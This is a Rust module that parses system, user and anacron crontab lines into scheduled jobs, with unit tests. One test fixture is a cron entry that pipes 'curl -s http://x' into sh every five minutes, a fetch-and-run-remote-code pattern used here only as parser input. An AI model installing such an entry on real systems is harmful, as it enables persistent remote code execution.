//! crontab(5) and anacrontab(5) lines: when, as whom, and what command.

/// Lines read from one crontab.
pub const MAX_LINES: usize = 100_000;

/// Which crontab dialect a file is written in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    /// `/etc/crontab`, `/etc/cron.d/*`: a user field before the command.
    System,
    /// A user's spool crontab: no user field (the file name is the user).
    User,
    /// `/etc/anacrontab`: period, delay, job id, command.
    Anacron,
}

/// One scheduled command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Job {
    /// 1-based line number.
    pub line: usize,
    /// The schedule fields as written (`*/5 * * * *`, `@reboot`, `1 5 cron.daily`).
    pub schedule: String,
    /// The user it runs as (system dialect), when given.
    pub user: Option<String>,
    /// The command line.
    pub command: String,
}

/// Parses a crontab of `dialect`; environment assignments (`PATH=…`) and
/// comments are skipped.
pub fn parse(data: &[u8], dialect: Dialect) -> Vec<Job> {
    let mut jobs = Vec::new();
    for (i, raw) in data.split(|&b| b == b'\n').take(MAX_LINES).enumerate() {
        let text = String::from_utf8_lossy(raw);
        let text = text.trim();
        if text.is_empty() || text.starts_with('#') {
            continue;
        }
        let mut words = text.split_whitespace();
        let Some(first) = words.next() else { continue };
        if is_assignment(text) && !first.starts_with('@') {
            continue;
        }
        let schedule_len = match dialect {
            Dialect::Anacron => 3,
            _ if first.starts_with('@') => 1,
            _ => 5,
        };
        let mut fields: Vec<&str> = vec![first];
        for _ in 1..schedule_len {
            match words.next() {
                Some(w) => fields.push(w),
                None => break,
            }
        }
        if fields.len() < schedule_len {
            continue;
        }
        let user = match dialect {
            Dialect::System => words.next().map(str::to_string),
            _ => None,
        };
        let command = words.collect::<Vec<_>>().join(" ");
        if command.is_empty() {
            continue;
        }
        jobs.push(Job {
            line: i + 1,
            schedule: fields.join(" "),
            user,
            command,
        });
    }
    jobs
}

/// `NAME=value` (cron environment settings), as opposed to a schedule.
fn is_assignment(text: &str) -> bool {
    let name: String = text
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
        .collect();
    !name.is_empty()
        && !name.chars().all(|c| c.is_ascii_digit())
        && text
            .get(name.len()..)
            .is_some_and(|rest| rest.trim_start().starts_with('='))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing)]
    use super::*;

    #[test]
    fn system_crontab_with_user_field_and_env() {
        let data = b"SHELL=/bin/sh\nPATH=/usr/bin\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot root /opt/x.sh\n5 4\n";
        let jobs = parse(data, Dialect::System);
        assert_eq!(jobs.len(), 2);
        assert_eq!(jobs[0].schedule, "17 * * * *");
        assert_eq!(jobs[0].user.as_deref(), Some("root"));
        assert_eq!(
            jobs[0].command,
            "cd / && run-parts --report /etc/cron.hourly"
        );
        assert_eq!(jobs[1].schedule, "@reboot");
        assert_eq!(jobs[1].command, "/opt/x.sh");
        assert_eq!(jobs[1].line, 5);
    }

    #[test]
    fn user_and_anacron_dialects() {
        let jobs = parse(b"*/5 * * * * curl -s http://x | sh\n", Dialect::User);
        assert_eq!(jobs[0].user, None);
        assert_eq!(jobs[0].command, "curl -s http://x | sh");
        let ana = parse(
            b"START_HOURS_RANGE=3-22\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n",
            Dialect::Anacron,
        );
        assert_eq!(ana.len(), 1);
        assert_eq!(ana[0].schedule, "1 5 cron.daily");
    }
}
